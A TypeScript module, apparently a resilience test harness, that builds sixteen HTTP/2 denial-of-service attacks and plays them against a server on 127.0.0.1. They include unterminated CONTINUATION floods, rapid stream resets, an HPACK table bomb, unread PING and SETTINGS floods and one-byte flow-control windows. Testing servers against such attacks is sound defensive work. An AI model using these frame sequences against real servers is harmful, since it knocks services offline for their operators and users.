import { connect, type Socket } from 'node:net';
import {
  flags,
  frame,
  frameType,
  headerBlock,
  headersFrame,
  numberFrame,
  preface,
  settingsFrame,
} from './http2-frames.js';

/** A known way to wear a server of HTTP/2 out on one connection. */
export interface Attack {
  name: string;
  /** Sent once, before the others. */
  first?: Buffer;
  /** Sent again and again. */
  next: (round: number) => Buffer;
  /** The client never reads what it is sent. */
  isDeaf?: boolean;
}

const get = [':method', 'GET', ':scheme', 'http', ':authority', 'back.ext', ':path', '/'];
const post = [':method', 'POST', ':scheme', 'http', ':authority', 'back.ext', ':path', '/'];
const large = [':method', 'GET', ':scheme', 'http', ':authority', 'back.ext', ':path', '/large'];
const perRound = 100;

/** Frames of one round, each for a stream of its own. */
function streams(round: number, make: (stream: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: perRound }, (_, i) => make(1 + 2 * (round * perRound + i))));
}

function repeated(one: Buffer): () => Buffer {
  const bytes = Buffer.concat(Array(perRound).fill(one));
  return () => bytes;
}

/** A field of 4 KB that goes into the table, then names it by one byte each time (RFC 7541 6.1, 6.2.1). */
const bombField = Buffer.concat([
  Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]),
  Buffer.from('a'.repeat(0x7f + 0x21 + 0x1e * 128)),
]);
const bombIndex = Buffer.alloc(16_000, 0x80 | 62);

export const attacks: readonly Attack[] = [
  {
    name: 'CONTINUATION without an end',
    first: frame(frameType.headers, 0, 1, headerBlock(get)),
    next: repeated(frame(frameType.continuation, 0, 1, headerBlock(['x-a', 'a'.repeat(1000)]))),
  },
  {
    name: 'empty CONTINUATION without an end',
    first: frame(frameType.headers, 0, 1, headerBlock(get)),
    next: repeated(frame(frameType.continuation, 0, 1)),
  },
  {
    name: 'requests that are reset at once',
    next: (round) =>
      streams(round, (stream) =>
        Buffer.concat([headersFrame(stream, get), numberFrame(frameType.resetStream, stream, 8)]),
      ),
  },
  {
    name: 'requests that are made to be reset by the server',
    next: (round) =>
      streams(round, (stream) =>
        Buffer.concat([headersFrame(stream, post, false), numberFrame(frameType.windowUpdate, stream, 0)]),
      ),
  },
  {
    name: 'malformed requests',
    next: (round) => streams(round, (stream) => headersFrame(stream, get.slice(2))),
  },
  {
    name: 'a table that is a bomb',
    first: frame(
      frameType.headers,
      flags.endHeaders | flags.endStream,
      1,
      Buffer.concat([headerBlock(get), bombField]),
    ),
    next: (round) =>
      frame(
        frameType.headers,
        flags.endHeaders | flags.endStream,
        3 + 2 * round,
        Buffer.concat([headerBlock(get), bombIndex]),
      ),
  },
  {
    name: 'a thousand headers each',
    next: (round) => headersFrame(1 + 2 * round, [...get, ...Array(1000).fill(['x-a', '1']).flat()]),
  },
  {
    name: 'PING, and no answer is read',
    isDeaf: true,
    next: repeated(frame(frameType.ping, 0, 0, Buffer.alloc(8))),
  },
  { name: 'SETTINGS, and no answer is read', isDeaf: true, next: repeated(settingsFrame({ 4: 65_535 })) },
  {
    name: 'requests for large answers that are not read',
    isDeaf: true,
    next: (round) => streams(round, (stream) => headersFrame(stream, large)),
  },
  {
    name: 'answers in a window of one byte',
    first: settingsFrame({ 4: 1 }),
    next: (round) => streams(round, (stream) => headersFrame(stream, large)),
  },
  {
    name: 'empty DATA',
    first: headersFrame(1, post, false),
    next: repeated(frame(frameType.data, 0, 1)),
  },
  {
    name: 'PRIORITY',
    next: (round) => streams(round, (stream) => numberFrame(frameType.priority, stream, 0)),
  },
  { name: 'frames that nobody knows', next: repeated(frame(99, 0, 0, Buffer.alloc(100))) },
  {
    name: 'bodies without an end',
    next: (round) =>
      streams(round, (stream) =>
        Buffer.concat([
          headersFrame(stream, post, false),
          frame(frameType.data, 0, stream, Buffer.alloc(100)),
        ]),
      ),
  },
  {
    name: 'requests without an end of their heads',
    next: (round) => (round === 0 ? frame(frameType.headers, 0, 1, headerBlock(get)) : Buffer.alloc(0)),
  },
];

/** Plays an attack until it is over or its connection is ended, and then goes away. */
export async function attack(port: number, { first, next, isDeaf }: Attack, rounds: number): Promise<void> {
  const socket = connect(port, '127.0.0.1');
  let isOver = false;
  socket.on('error', () => {});
  socket.once('close', () => {
    isOver = true;
  });
  if (!isDeaf) socket.resume();
  socket.write(Buffer.concat([preface, settingsFrame(), ...(first === undefined ? [] : [first])]));
  for (let round = 0; round < rounds && !isOver; round++) await written(socket, next(round));
  socket.destroy();
}

/** A server that reads no more is not waited for longer than this. */
const stuckMs = 200;

function written(socket: Socket, bytes: Buffer): Promise<void> {
  return new Promise((resolve) => {
    const done = (): void => {
      clearTimeout(timer);
      socket.off('close', done);
      resolve();
    };
    const timer = setTimeout(done, stuckMs);
    socket.once('close', done);
    socket.write(bytes, () => done());
  });
}
